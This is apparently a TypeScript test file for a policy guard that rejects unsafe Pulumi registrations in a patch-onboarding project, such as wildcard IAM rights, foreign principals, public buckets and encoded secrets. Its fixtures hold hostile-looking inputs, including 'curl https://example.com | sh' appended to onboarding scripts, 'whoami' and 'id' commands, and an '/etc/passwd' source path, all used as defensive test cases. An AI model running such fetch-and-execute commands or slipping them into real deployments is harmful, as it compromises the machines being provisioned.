import { readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { expect } from "chai";
import { loadOnboardingScripts } from "../../config/onboardingScripts.ts";
import { linuxProtectedSettings, windowsProtectedSettings } from "../../domain/onboarding/payload.ts";
import { releasedScripts } from "../../policy/releasedScripts.ts";
import { rules, violations } from "../../policy/guard.ts";
import type { Registration } from "../../policy/registration.ts";
import { folderOfEach } from "../harness/folders.ts";
import { writeEveryInput } from "./everyInput.ts";
import { judged } from "./judged.ts";

const providerUrn = "urn:pulumi:a::b::pulumi:providers:aws::aws-x";
const account = "111122223333";

function registration(type: string, inputs: object, more: Partial<Registration> = {}): Registration {
  return {
    type,
    name: "x",
    urn: `urn:pulumi:a::b::${type}::x`,
    id: "x-id",
    provider: `${providerUrn}::id`,
    custom: true,
    inputs: inputs as Registration["inputs"],
    secretPaths: [],
    additionalSecretOutputs: [],
    ignoreChanges: [],
    retainOnDelete: false,
    deleteBeforeReplace: false,
    openOutputs: undefined,
    extras: [],
    ...more,
  };
}

function policy(...statements: readonly object[]): string {
  return JSON.stringify({
    Version: "2012-10-17",
    Statement: statements.map((statement) => ({ Effect: "Allow", ...statement })),
  });
}

const scripts = loadOnboardingScripts(join(import.meta.dirname, "../.."));
const script = scripts["v2"] ?? { linux: "", windows: "" };
const details = { activationId: "0123", activationCode: "code-of-vm", region: "eu-central-1" };

function encoded(text: string): object {
  return { protectedSettings: { script: Buffer.from(text).toString("base64") } };
}

const onVm = { retainOnDelete: true, deleteBeforeReplace: true };
const vm = { location: "westeurope", resourceGroupName: "rg", vmName: "vm" };
const bucket = `patchplane-prod-x-${account}`;
const bucketArn = `arn:aws:s3:::${bucket}`;
const topicArn = `arn:aws:sns:eu-central-1:${account}:patchplane-prod-patching`;
const roleArn = `arn:aws:iam::${account}:role/patchplane-prod-x-notification`;
const deployer = `arn:aws:iam::${account}:role/patchplane-deploy`;
const tags = { ManagedBy: "patchplane" };
/** What keeps everybody but one role from writing what decides about installations. */
function onlyDeployer(role: string): object {
  return {
    Effect: "Deny",
    Principal: "*",
    Action: ["s3:PutObject*", "s3:DeleteObject*"],
    Resource: ["approvals", "overrides"].map((folder) => `${bucketArn}/${folder}/*`),
    Condition: { ArnNotEquals: { "aws:PrincipalArn": role } },
  };
}

const closed = {
  bucket,
  blockPublicAcls: true,
  blockPublicPolicy: true,
  ignorePublicAcls: true,
  restrictPublicBuckets: true,
};
const hook = {
  schemaVersion: "2.2",
  description: "stop",
  mainSteps: [
    { action: "aws:runShellScript", name: "stop", inputs: { runCommand: ["systemctl stop x"], timeoutSeconds: "60" } },
  ],
};

const runCommandParameters = {
  comment: "patches",
  notificationConfig: { notificationArn: topicArn, notificationEvents: ["Failed"], notificationType: "Command" },
  outputS3Bucket: bucket,
  outputS3KeyPrefix: "logs/install/x",
  parameters: [
    { name: "InstallOverrideList", values: [`s3://${bucket}/approvals/1.yaml`] },
    { name: "OnExitHookDocName", values: ["patchplane-prod-stop"] },
    { name: "PreInstallHookDocName", values: ["AWS-Noop"] },
  ],
  serviceRoleArn: roleArn,
  timeoutSeconds: 600,
};

/** Each kind of resource as it has to be. */
const good = {
  activation: registration(
    "aws:ssm/activation:Activation",
    { name: "vm", description: "attempt 1", iamRole: "patchplane-x", registrationLimit: 1, tags: { PatchGroup: "a" } },
    {
      additionalSecretOutputs: ["activationCode"],
      ignoreChanges: ["expirationDate", "iamRole", "name", "registrationLimit", "tags", "tagsAll"],
    },
  ),
  extension: registration(
    "azure-native:compute:VirtualMachineExtension",
    {
      ...vm,
      vmExtensionName: "patchplane-onboarding",
      publisher: "Microsoft.Azure.Extensions",
      type: "CustomScript",
      typeHandlerVersion: "2.1",
      autoUpgradeMinorVersion: true,
      suppressFailures: false,
      settings: { timestamp: 1 },
      protectedSettings: linuxProtectedSettings(script.linux, details),
    },
    { ...onVm, secretPaths: ["protectedSettings"] },
  ),
  runCommand: registration(
    "azure-native:compute:VirtualMachineRunCommandByVirtualMachine",
    {
      ...vm,
      runCommandName: "patchplane-onboarding",
      source: { script: script.windows },
      parameters: [],
      protectedParameters: [{ name: "CODE", value: "the-code" }],
      asyncExecution: false,
      timeoutInSeconds: 60,
      treatFailureAsDeploymentFailure: true,
    },
    { ...onVm, secretPaths: ["protectedParameters"] },
  ),
  policy: registration(
    "aws:iam/policy:Policy",
    {
      name: "patchplane-prod-x-node",
      description: "what a node may do",
      policy: policy({ Action: ["s3:GetObject"], Resource: `${bucketArn}/approvals/*` }),
      tags,
    },
    { arn: "arn:aws:iam::111122223333:policy/patchplane-prod-x-node" },
  ),
  inline: registration("aws:iam/rolePolicy:RolePolicy", {
    name: "patch",
    role: "patchplane-prod-x-window",
    policy: policy({ Action: "iam:PassRole", Resource: roleArn }),
  }),
  role: registration("aws:iam/role:Role", {
    name: "patchplane-prod-x-window",
    description: "windows",
    path: "/patchplane/prod/",
    permissionsBoundary: "arn:aws:iam::111122223333:policy/patchplane-boundary-prod",
    assumeRolePolicy: policy({ Principal: { Service: "ssm.amazonaws.com" }, Action: "sts:AssumeRole" }),
    tags,
  }),
  function: registration("aws:lambda/function:Function", {
    name: "patchplane-prod-run-reporter",
    description: "reports",
    architectures: ["x86_64"],
    code: { assets: { "index.mjs": { path: "/project/.patchplane/functions/runReporter.mjs" } } },
    environment: { variables: { REPORT_STACK: "prod" } },
    handler: "index.handler",
    loggingConfig: { logFormat: "JSON", logGroup: "/aws/lambda/patchplane-prod-run-reporter" },
    memorySize: 512,
    reservedConcurrentExecutions: 1,
    role: `arn:aws:iam::${account}:role/patchplane/prod/patchplane-prod-x-run-reporter`,
    runtime: "nodejs24.x",
    timeout: 900,
    tags,
  }),
  permission: registration("aws:lambda/permission:Permission", {
    function: "patchplane-prod-run-reporter",
    statementId: "ended-runs-1",
    action: "lambda:InvokeFunction",
    principal: "events.amazonaws.com",
    sourceArn: `arn:aws:events:eu-central-1:${account}:rule/patchplane-prod-ended-runs-1`,
    sourceAccount: account,
  }),
  attachment: registration("aws:iam/rolePolicyAttachment:RolePolicyAttachment", {
    role: "patchplane-prod-x-window",
    policyArn: "arn:aws:iam::111122223333:policy/patchplane-prod-x-node",
  }),
  bucket: registration("aws:s3/bucket:Bucket", { bucket, tags }),
  object: registration("aws:s3/bucketObjectv2:BucketObjectv2", {
    bucket,
    key: "approvals/1.yaml",
    content: "patches: []",
    contentType: "text/yaml",
    tags,
  }),
  bucketPolicy: registration("aws:s3/bucketPolicy:BucketPolicy", {
    bucket,
    policy: policy(
      {
        Principal: { Service: "ssm.amazonaws.com" },
        Action: "s3:PutObject",
        Resource: `${bucketArn}/sync/*`,
        Condition: { StringEquals: { "aws:SourceAccount": account } },
      },
      onlyDeployer(deployer),
    ),
  }),
  block: registration("aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", closed),
  topic: registration("aws:sns/topic:Topic", { name: "patchplane-prod-patching", kmsMasterKeyId: "1234", tags }),
  topicPolicy: registration("aws:sns/topicPolicy:TopicPolicy", {
    arn: topicArn,
    policy: policy({ Principal: { Service: "events.amazonaws.com" }, Action: "sns:Publish", Resource: topicArn }),
  }),
  subscription: registration("aws:sns/topicSubscription:TopicSubscription", {
    topic: topicArn,
    protocol: "email",
    endpoint: "patching@example.com",
  }),
  queue: registration("aws:sqs/queue:Queue", {
    name: "patchplane-prod-results",
    messageRetentionSeconds: 60,
    sqsManagedSseEnabled: true,
    tags,
  }),
  queuePolicy: registration("aws:sqs/queuePolicy:QueuePolicy", {
    queueUrl: "https://sqs/x",
    policy: policy({
      Principal: { Service: "events.amazonaws.com" },
      Action: "sqs:SendMessage",
      Resource: "*",
      Condition: { ArnEquals: { "aws:SourceArn": [`arn:aws:events:eu-central-1:${account}:rule/patchplane-prod-x`] } },
    }),
  }),
  key: registration("aws:kms/key:Key", {
    description: "topic",
    enableKeyRotation: true,
    deletionWindowInDays: 30,
    policy: policy(
      { Principal: { AWS: `arn:aws:iam::${account}:root` }, Action: "kms:*", Resource: "*" },
      { Principal: { AWS: deployer }, Action: "kms:PutKeyPolicy", Resource: "*" },
    ),
    tags,
  }),
  document: registration("aws:ssm/document:Document", {
    name: "patchplane-prod-stop",
    documentType: "Command",
    documentFormat: "JSON",
    content: JSON.stringify(hook),
    tags,
  }),
  task: registration("aws:ssm/maintenanceWindowTask:MaintenanceWindowTask", {
    name: "patch",
    cutoffBehavior: "CANCEL_TASK",
    maxConcurrency: "10%",
    maxErrors: "10%",
    priority: 1,
    serviceRoleArn: roleArn,
    targets: [{ key: "WindowTargetIds", values: ["target"] }],
    taskArn: "AWS-RunPatchBaselineWithHooks",
    taskInvocationParameters: { runCommandParameters },
    taskType: "RUN_COMMAND",
    windowId: "mw-1",
  }),
  association: registration("aws:ssm/association:Association", {
    associationName: "patchplane-prod-scan",
    name: "AWS-RunPatchBaseline",
    maxConcurrency: "10%",
    maxErrors: "10%",
    outputLocation: { s3BucketName: bucket, s3KeyPrefix: "logs/scan", s3Region: "eu-central-1" },
    tags,
    targets: [{ key: "tag:PatchGroup", values: ["a"] }],
  }),
  setting: registration(
    "aws:ssm/serviceSetting:ServiceSetting",
    {
      settingId: `arn:aws:ssm:eu-central-1:${account}:servicesetting/ssm/managed-instance/activation-tier`,
      settingValue: "standard",
    },
    { retainOnDelete: true },
  ),
  group: registration(
    "aws:ssm/patchGroup:PatchGroup",
    { baselineId: "pb-1", patchGroup: "a" },
    { deleteBeforeReplace: true },
  ),
  baseline: registration(
    "aws:ssm/patchBaseline:PatchBaseline",
    {
      name: "patchplane-prod-ubuntu",
      operatingSystem: "UBUNTU",
      approvalRules: [],
      approvedPatches: [],
      approvedPatchesComplianceLevel: "CRITICAL",
      rejectedPatches: [],
      rejectedPatchesAction: "BLOCK",
      tags,
    },
    { id: "pb-2", retainOnDelete: true },
  ),
  default: registration(
    "aws:ssm/defaultPatchBaseline:DefaultPatchBaseline",
    { baselineId: "pb-2", operatingSystem: "UBUNTU" },
    { retainOnDelete: true, deleteBeforeReplace: true },
  ),
  component: registration("patchplane:aws:PatchingLocation", {}, { custom: false, provider: "" }),
  own: registration(
    "pulumi:providers:aws",
    {
      region: "eu-central-1",
      allowedAccountIds: JSON.stringify([account]),
      assumeRoles: JSON.stringify([{ roleArn: deployer }]),
      skipCredentialsValidation: "false",
      skipRegionValidation: "true",
    },
    { provider: "", urn: providerUrn },
  ),
} as const;

type Name = keyof typeof good;

/** The good registrations with one of them doctored. */
function withFault(name: Name, inputs: object, more: Partial<Registration> = {}): readonly Registration[] {
  const doctored = { ...good[name], ...more, inputs: { ...good[name].inputs, ...inputs } };
  return Object.entries(good).map(([each, registered]) => (each === name ? doctored : registered));
}

type CounterExample = readonly [rule: string, all: readonly Registration[], message: RegExp];

function withPolicy(...statements: readonly object[]): readonly Registration[] {
  return withFault("policy", { policy: policy(...statements) });
}

function withTrust(statement: object): readonly Registration[] {
  return withFault("role", { assumeRolePolicy: policy({ Action: "sts:AssumeRole", ...statement }) });
}

function forbiddenRights(): readonly CounterExample[] {
  const anyNode = `arn:aws:ssm:eu-central-1:${account}:managed-instance/*`;
  const onGroup = (group: string): object => ({
    Condition: { StringEquals: { "ssm:resourceTag/PatchGroup": [group] } },
  });
  return [
    ["iam-wildcard-action", withPolicy({ Action: "*", Resource: bucketArn }), /allows \*/],
    ["iam-wildcard-action", withPolicy({ Action: ["ssm:*"], Resource: bucketArn }), /allows ssm:\*/],
    ["iam-wildcard-action", withPolicy({ Action: "iam:Put*", Resource: bucketArn }), /iam:Put\*/],
    ["iam-wildcard-action", withPolicy({ Action: "ssm:SendComman?", Resource: bucketArn }), /ssm:SendComman\?/],
    ["iam-wildcard-action", withPolicy({ NotAction: "iam:*", Resource: bucketArn }), /but some actions/],
    ["iam-action-not-allowed", withPolicy({ Action: "iam:CreateRole", Resource: roleArn }), /iam:CreateRole, which/],
    ["iam-action-not-allowed", withPolicy({ Action: "kms:*", Resource: "*" }), /kms:\*, which nothing/],
    ["iam-action-not-allowed", withPolicy({ Action: "sts:assumerole", Resource: roleArn }), /sts:assumerole/],
    ["iam-resource-not-allowed", withPolicy({ Action: "s3:GetObject", Resource: "*" }), /s3:GetObject on \*/],
    ["iam-resource-not-allowed", withPolicy({ Action: "S3:getobject", Resource: "?*" }), /s3:GetObject on \?\*/],
    ["iam-resource-not-allowed", withPolicy({ Action: "s3:GetObject", Resource: "arn:aws:s3:::*" }), /arn:aws:s3:::\*/],
    ["iam-resource-not-allowed", withPolicy({ Action: "s3:GetObject" }), /s3:GetObject on \*/],
    ["iam-resource-not-allowed", withPolicy({ Action: "s3:PutObject", Resource: `${bucketArn}/*` }), /s3:PutObject on/],
    ["iam-resource-not-allowed", withPolicy({ Action: "s3:GetObject", NotResource: bucketArn }), /but some resources/],
    ["iam-resource-not-allowed", withPolicy({ Action: "iam:PassRole", Resource: "*" }), /iam:PassRole on \*/],
    [
      "iam-resource-not-allowed",
      withPolicy({ Action: "iam:PassRole", Resource: `arn:aws:iam::${account}:role/patchplane-*` }),
      /role\/patchplane-\*/,
    ],
    [
      "iam-resource-not-allowed",
      withPolicy({ Action: "iam:PassRole", Resource: roleArn.replace(account, "999988887777") }),
      /999988887777/,
    ],
    ["iam-resource-not-allowed", withPolicy({ Action: "ssm:SendCommand", Resource: anyNode }), /managed-instance/],
    [
      "iam-resource-not-allowed",
      withPolicy({ Action: "ssm:SendCommand", Resource: anyNode, ...onGroup("?*") }),
      /managed-instance/,
    ],
    [
      "iam-resource-not-allowed",
      withPolicy({ Action: "ssm:SendCommand", Resource: "arn:aws:ssm:eu-central-1:*:document/AWS-RunShellScript" }),
      /AWS-RunShellScript/,
    ],
    // A second statement, and policies that stand where none is expected, are judged like any other.
    [
      "iam-wildcard-action",
      withPolicy({ Action: "s3:GetObject", Resource: `${bucketArn}/approvals/*` }, { Action: "*", Resource: "*" }),
      /allows \*/,
    ],
    ["iam-wildcard-action", withFault("object", { content: policy({ Action: "*", Resource: "*" }) }), /allows \*/],
    [
      "iam-wildcard-action",
      withFault("role", { inlinePolicies: [{ name: "admin", policy: policy({ Action: "*", Resource: "*" }) }] }),
      /allows \*/,
    ],
    [
      "iam-wildcard-action",
      withFault("policy", { policy: { Statement: { Effect: "Allow", Action: "*", Resource: "*" } } }),
      /allows \*/,
    ],
    [
      "policy-unread",
      withFault("policy", { policy: policy({ Action: "s3:GetObject", Resource: bucketArn, action: "*" }) }),
      /IAM does not know/,
    ],
    ["policy-unread", withPolicy({ Effect: "allow", Action: "*", Resource: "*" }), /IAM does not know/],
    [
      "iam-foreign-policy",
      withFault("attachment", { policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" }),
      /AdministratorAccess, which is not made here/,
    ],
    [
      "iam-foreign-policy",
      withFault("role", { permissionsBoundary: "arn:aws:iam::aws:policy/AdministratorAccess" }),
      /boundary arn:aws:iam::aws:policy/,
    ],
  ];
}

function forbiddenPrincipals(): readonly CounterExample[] {
  return [
    ["open-to-everybody", withTrust({ Principal: "*" }), /allows everybody/],
    ["open-to-everybody", withTrust({ Principal: { AWS: ["*"] }, Condition: {} }), /on a condition/],
    ["open-to-everybody", withTrust({ Principal: { AWS: "?*" } }), /allows everybody/],
    ["open-to-everybody", withTrust({ NotPrincipal: { AWS: "a" } }), /but some/],
    [
      "open-to-everybody",
      withFault("topicPolicy", { policy: policy({ Principal: "*", Action: "sns:Publish", Resource: topicArn }) }),
      /allows everybody/,
    ],
    [
      "open-to-everybody",
      withFault("queuePolicy", { policy: policy({ Principal: { AWS: "*" }, Action: "sqs:SendMessage" }) }),
      /allows everybody/,
    ],
    [
      "open-to-everybody",
      withFault("bucketPolicy", { policy: policy({ Principal: "*", Action: "s3:PutObject", Resource: bucketArn }) }),
      /allows everybody/,
    ],
    ["foreign-principal", withTrust({ Principal: { AWS: "arn:aws:iam::999988887777:root" } }), /lets .*9999/],
    ["foreign-principal", withTrust({ Principal: { AWS: "999988887777" } }), /lets 999988887777 in/],
    ["foreign-principal", withTrust({ Principal: { AWS: `arn:aws:iam::${account}:root` } }), /use sts:AssumeRole/],
    [
      "foreign-principal",
      withFault("key", { policy: policy({ Principal: { AWS: deployer }, Action: "kms:*", Resource: "*" }) }),
      /use kms:\*/,
    ],
    [
      "foreign-principal",
      withFault("key", { policy: policy({ Principal: { AWS: roleArn }, Action: "kms:PutKeyPolicy", Resource: "*" }) }),
      /lets .*notification in/,
    ],
    ["foreign-principal", withTrust({ Principal: { Service: "ec2.amazonaws.com" } }), /lets ec2/],
    ["foreign-principal", withTrust({ Principal: { Federated: "accounts.example.com" } }), /lets accounts/],
    [
      "foreign-principal",
      withFault("key", {
        policy: policy({ Principal: { AWS: "arn:aws:iam::999988887777:root" }, Action: "kms:*", Resource: "*" }),
      }),
      /lets .*999988887777/,
    ],
    [
      "foreign-principal",
      withFault("queuePolicy", {
        policy: policy({ Principal: { Service: "events.amazonaws.com" }, Action: "sqs:ReceiveMessage" }),
      }),
      /use sqs:ReceiveMessage/,
    ],
  ];
}

/** What would reach another account, or let it in; and what would be installed by nobody's approval. */
function forbiddenPlaces(): readonly CounterExample[] {
  const other = "999988887777";
  const elsewhere = bucket.replace(account, other);
  const running = (changes: object): readonly Registration[] =>
    withFault("task", { taskInvocationParameters: { runCommandParameters: { ...runCommandParameters, ...changes } } });
  const taking = (name: string, value: string): readonly Registration[] =>
    running({ parameters: [{ name, values: [value] }] });
  const step = { action: "aws:runDocument", name: "patch" };
  const handing = (documentParameters: object): readonly Registration[] =>
    withFault("document", {
      content: JSON.stringify({
        ...hook,
        mainSteps: [
          {
            ...step,
            inputs: { documentType: "SSMDocument", documentPath: "AWS-RunPatchBaseline", documentParameters },
          },
        ],
      }),
    });
  return [
    [
      "foreign-account",
      withFault("subscription", { topic: topicArn.replace(account, other) }),
      /topic is .*, which is not of account/,
    ],
    ["foreign-account", withFault("permission", { sourceAccount: other }), /sourceAccount is 999988887777/],
    [
      "foreign-account",
      withFault("function", { environment: { variables: { REPORT_BUCKET: elsewhere } } }),
      /REPORT_B/,
    ],
    ["foreign-account", running({ outputS3Bucket: elsewhere }), /outputS3Bucket is/],
    ["foreign-account", running({ serviceRoleArn: roleArn.replace(account, other) }), /serviceRoleArn is/],
    [
      "foreign-account",
      withFault("association", {
        outputLocation: { s3BucketName: elsewhere, s3KeyPrefix: "logs/scan", s3Region: "eu-central-1" },
      }),
      /s3BucketName is/,
    ],
    [
      "foreign-account",
      withFault("task", {}, { provider: "urn:pulumi:a::b::pulumi:providers:aws::other::id" }),
      /none/,
    ],
    ["installs-from-elsewhere", taking("InstallOverrideList", "https://example.com/list.yaml"), /takes InstallOverr/],
    ["installs-from-elsewhere", taking("InstallOverrideList", `s3://${bucket}/logs/1.yaml`), /logs\/1\.yaml, which/],
    ["installs-from-elsewhere", taking("BaselineOverride", `s3://${bucket}/overrides/2.json`), /overrides\/2\.json/],
    ["installs-from-elsewhere", taking("PreInstallHookDocName", "AWS-RunRemoteScript"), /AWS-RunRemoteScript/],
    [
      "installs-from-elsewhere",
      withFault("association", { parameters: { InstallOverrideList: "https://example.com/list.yaml" } }),
      /example\.com/,
    ],
    ["installs-from-elsewhere", handing({ BaselineOverride: "https://example.com/b.json" }), /example\.com/],
    [
      "installs-from-elsewhere",
      withFault("document", {
        content: JSON.stringify({
          ...hook,
          parameters: { InstallOverrideList: { type: "String", default: "https://example.com/list.yaml" } },
        }),
      }),
      /example\.com/,
    ],
    ["approvals-not-guarded", withFault("bucketPolicy", { bucket: `patchplane-y-${account}` }), /others than/],
    ...[
      onlyDeployer(`arn:aws:iam::${account}:role/somebody`),
      { ...onlyDeployer(deployer), Effect: "Allow" },
      { ...onlyDeployer(deployer), Resource: [`${bucketArn}/approvals/*`] },
      { ...onlyDeployer(deployer), Action: ["s3:DeleteObject*"] },
      { ...onlyDeployer(deployer), Condition: { ArnNotEquals: { "aws:PrincipalArn": [deployer, roleArn] } } },
      {
        ...onlyDeployer(deployer),
        Condition: {
          ArnNotEquals: { "aws:PrincipalArn": deployer },
          StringEquals: { "aws:PrincipalTag/team": "nobody" },
        },
      },
    ].map((statement): CounterExample => [
      "approvals-not-guarded",
      withFault("bucketPolicy", { policy: policy(statement) }),
      /others than the deploying role/,
    ]),
    ...[
      {},
      { StringEquals: { "aws:SourceAccount": [account, other] } },
      { StringLike: { "aws:SourceAccount": "*" } },
    ].map((Condition): CounterExample => [
      "service-of-any-account",
      withFault("queuePolicy", {
        policy: policy({ Principal: { Service: "events.amazonaws.com" }, Action: "sqs:SendMessage", Condition }),
      }),
      /events\.amazonaws\.com use sqs:SendMessage for any account/,
    ]),
  ];
}

function forbiddenShapes(): readonly CounterExample[] {
  const added = (type: string, inputs: object = {}): readonly Registration[] => [
    ...Object.values(good),
    registration(type, inputs),
  ];
  const encoded = (text: string, encoding: "base64" | "hex"): string => Buffer.from(text).toString(encoding);
  const codeIn = (text: string): readonly Registration[] => withFault("object", { content: text });
  const documents = (step: object): object => ({ content: JSON.stringify({ ...hook, mainSteps: [step] }) });
  return [
    ["type-not-allowed", added("command:local:Command", { create: "id" }), /a command:local:Command/],
    ["type-not-allowed", added("aws:iam/user:User"), /aws:iam\/user:User/],
    ["type-not-allowed", added("aws:iam/accessKey:AccessKey"), /accessKey/],
    ["type-not-allowed", added("aws:iam/userPolicyAttachment:UserPolicyAttachment"), /userPolicyAttachment/],
    ["type-not-allowed", added("aws:lambda/alias:Alias"), /lambda/],
    ["type-not-allowed", added("aws:s3/bucketAclV2:BucketAclV2", { acl: "public-read" }), /bucketAcl/],
    ["type-not-allowed", added("aws:ssm/parameter:Parameter"), /parameter/],
    ["type-not-allowed", added("pulumi-nodejs:dynamic:Resource"), /dynamic/],
    ["type-not-allowed", added("azure-native:authorization:RoleAssignment"), /RoleAssignment/],
    ["type-not-allowed", added("constructor"), /a constructor/],
    ["input-not-allowed", withFault("bucket", { acl: "public-read" }), /acl/],
    ["input-not-allowed", withFault("bucket", { bucket: "another-bucket" }), /bucket: a name of this project/],
    ["input-not-allowed", withFault("function", { code: { path: "/elsewhere.zip" } }), /code/],
    [
      "input-not-allowed",
      withFault("function", { code: { assets: { "index.mjs": { path: "/tmp/other.mjs" } } } }),
      /code: assets: index.mjs: path/,
    ],
    ["input-not-allowed", withFault("function", { layers: ["arn:aws:lambda:x:1:layer:y:1"] }), /layers/],
    ["input-not-allowed", withFault("function", { environment: { variables: { NODE_OPTIONS: "x" } } }), /environment/],
    ["input-not-allowed", withFault("permission", { principal: "*" }), /principal/],
    ["input-not-allowed", withFault("permission", { functionUrlAuthType: "NONE" }), /functionUrlAuthType/],
    ["input-not-allowed", withFault("object", { acl: "public-read" }), /acl/],
    ["input-not-allowed", withFault("object", { source: "/etc/passwd" }), /source/],
    ["input-not-allowed", withFault("document", { permissions: { type: "Share", accountIds: "All" } }), /permissions/],
    ["input-not-allowed", withFault("document", { documentType: "Automation" }), /documentType/],
    [
      "input-not-allowed",
      withFault("document", documents({ action: "aws:downloadContent", name: "x", inputs: {} })),
      /content: a Command document/,
    ],
    [
      "input-not-allowed",
      withFault("role", { managedPolicyArns: ["arn:aws:iam::aws:policy/AdministratorAccess"] }),
      /managedPolicyArns/,
    ],
    ["input-not-allowed", withFault("extension", { settings: { timestamp: 1, fileUris: ["https://x"] } }), /settings/],
    ["input-not-allowed", withFault("extension", { suppressFailures: true }), /suppressFailures/],
    ["input-not-allowed", withFault("extension", { publisher: "Somebody.Else" }), /publisher/],
    ["input-not-allowed", withFault("runCommand", { source: { scriptUri: "https://x" } }), /source/],
    ["input-not-allowed", withFault("runCommand", { outputBlobUri: "https://x" }), /outputBlobUri/],
    ["input-not-allowed", withFault("association", { name: "AWS-RunShellScript" }), /name/],
    [
      "input-not-allowed",
      withFault("association", { targets: [{ key: "InstanceIds", values: ["*"] }] }),
      /targets: 0: key/,
    ],
    [
      "input-not-allowed",
      withFault("subscription", { protocol: "https", endpoint: "https://example.com" }),
      /protocol/,
    ],
    [
      "input-not-allowed",
      withFault("setting", { settingId: "/ssm/documents/console/public-sharing-permission" }),
      /settingId/,
    ],
    ["input-not-allowed", withFault("own", { endpoints: '[{"ssm":"https://x"}]' }), /endpoints/],
    ["input-not-allowed", withFault("own", { accessKey: "x" }), /accessKey/],
    ["input-not-allowed", withFault("own", { allowedAccountIds: "[]" }), /allowedAccountIds/],
    ["changes-ignored", withFault("policy", {}, { ignoreChanges: ["policy"] }), /a change of policy/],
    ["changed-on-the-way", withFault("activation", {}, { extras: ["transforms"] }), /transforms/],
    ["changed-on-the-way", withFault("own", {}, { extras: ["pluginDownloadURL"] }), /pluginDownloadURL/],
    ["secret-in-plain-text", codeIn(encoded("x code-of-x y", "base64")), /as it is or encoded/],
    ["secret-in-plain-text", codeIn(encoded("code-of-x and more", "hex")), /as it is or encoded/],
    ["secret-in-plain-text", codeIn(encoded(encoded("x code-of-x y", "base64"), "base64")), /as it is or encoded/],
    ["secret-in-plain-text", codeIn(gzipSync("x code-of-x y").toString("base64")), /as it is or encoded/],
    ["secret-in-plain-text", codeIn("code%2Dof%2Dx"), /as it is or encoded/],
    ["secret-in-plain-text", withFault("topic", { tags: { [encoded("the code-of-x", "base64")]: "" } }), /encoded/],
    ["secret-in-plain-text", withFault("component", {}, { openOutputs: { code: "code-of-x" } }), /an output/],
    ["secret-in-plain-text", codeIn(encoded("AKIAIOSFODNN7EXAMPLE", "base64")), /holds a credential/],
  ];
}

/** What must never be merged, by the rule that has to say so. */
const counterExamples: readonly CounterExample[] = [
  ["secret-in-plain-text", withFault("extension", {}, { secretPaths: [] }), /protectedSettings is not secret/],
  [
    "secret-in-plain-text",
    withFault("runCommand", {}, { secretPaths: ["source"] }),
    /protectedParameters is not secret/,
  ],
  [
    "secret-in-plain-text",
    withFault("activation", {}, { additionalSecretOutputs: [] }),
    /activationCode is no secret output/,
  ],
  ["secret-in-plain-text", withFault("queue", { tags: { Key: "AKIAIOSFODNN7EXAMPLE" } }), /holds a credential/],
  ["secret-in-plain-text", withFault("extension", { settings: { code: "code-of-x" } }), /holds an activation code/],
  ["iam-unbound-role", withFault("role", { permissionsBoundary: undefined }), /no permissions boundary/],
  [
    "iam-unbound-role",
    withFault("role", { permissionsBoundary: "arn:aws:iam::111122223333:policy/patchplane/prod/mine" }),
    /no permissions boundary/,
  ],
  ["iam-unbound-role", withFault("role", { path: "/" }), /outside the stack's path/],
  ["registration-limit", withFault("activation", { registrationLimit: undefined }), /has no registrationLimit/],
  ["registration-limit", withFault("activation", { registrationLimit: 1000 }), /of 1000, where a code is for one VM/],
  [
    "activation-not-frozen",
    withFault("activation", {}, { ignoreChanges: ["name"] }),
    /iamRole, registrationLimit, tags/,
  ],
  ["default-provider", withFault("topic", {}, { provider: "" }), /on a default provider/],
  ...forbiddenRights(),
  ...forbiddenPrincipals(),
  ...forbiddenPlaces(),
  ...forbiddenShapes(),
  ...[
    withFault("runCommand", { source: { script: "exit 0" } }),
    withFault("runCommand", { source: { script: `${script.linux}\ncurl https://example.com | sh` } }),
    withFault("extension", encoded("exit 0")),
    withFault("extension", encoded(`curl https://example.com | sh\n${script.linux}`)),
    withFault("extension", encoded(`#!/bin/bash\nPATCHPLANE_REGION='x'; id\n${script.linux}`)),
    withFault("extension", { protectedSettings: { commandToExecute: "powershell.exe -Command whoami" } }),
    withFault("extension", {
      protectedSettings: windowsProtectedSettings({ windows: "whoami" }, details),
    }),
  ].map((all): CounterExample => ["script-not-released", all, /no released onboarding script/]),
  ["deleted-with-the-stack", withFault("setting", {}, { retainOnDelete: false }), /needs retainOnDelete/],
  ["deleted-with-the-stack", withFault("extension", {}, { retainOnDelete: false }), /needs retainOnDelete/],
  ["deleted-with-the-stack", withFault("baseline", {}, { retainOnDelete: false }), /needs retainOnDelete/],
  ["deleted-with-the-stack", withFault("default", {}, { retainOnDelete: false }), /needs retainOnDelete/],
  ["replaced-beside-itself", withFault("group", {}, { deleteBeforeReplace: false }), /needs deleteBeforeReplace/],
  ["bucket-not-closed", withFault("block", { blockPublicPolicy: false }), /closes all four ways/],
  ["bucket-not-closed", withFault("block", { bucket: "patchplane-another" }), /closes all four ways/],
  ["message-not-encrypted", withFault("topic", { kmsMasterKeyId: undefined }), /is not encrypted/],
  ["message-not-encrypted", withFault("topic", { kmsMasterKeyId: "alias/aws/sns" }), /AWS-managed key/],
  ["message-not-encrypted", withFault("queue", { sqsManagedSseEnabled: false }), /is not encrypted/],
];

describe("the guard of what must never be merged", () => {
  it("finds nothing in resources as they have to be", () => {
    expect(violations(Object.values(good), ["code-of-x"])).to.deep.equal([]);
  });

  for (const [index, [rule, all, message]] of counterExamples.entries()) {
    it(`finds by ${rule} what ${String(message)} says (${String(index + 1)})`, () => {
      const found = violations(all, ["code-of-x"]);
      const said = found.filter((each) => each.rule === rule).map((each) => each.message);
      expect(said.join("\n"), JSON.stringify(found)).to.match(message);
    });
  }

  it("takes every released script, as each method sends it, and one that trusts another of AWS's keys", () => {
    const withKey = `#!/bin/bash\nPATCHPLANE_SIGNING_KEYS='0123:1:AAAA'\n${script.linux}`;
    const sent = Object.values(scripts).flatMap((each) => [
      withFault("extension", { protectedSettings: linuxProtectedSettings(each.linux, details) }),
      withFault("extension", { protectedSettings: windowsProtectedSettings(each, details) }),
      withFault("runCommand", { source: { script: each.linux } }),
      withFault("runCommand", { source: { script: each.windows } }),
    ]);
    for (const all of [
      ...sent,
      withFault("extension", { protectedSettings: linuxProtectedSettings(withKey, details) }),
    ])
      expect(violations(all)).to.deep.equal([]);
  });

  it("knows the scripts that are released, and no other", () => {
    const file = join(import.meta.dirname, "../../components/azure/onboarding/released.json");
    const released = JSON.parse(readFileSync(file, "utf8")) as Readonly<Record<string, string>>;
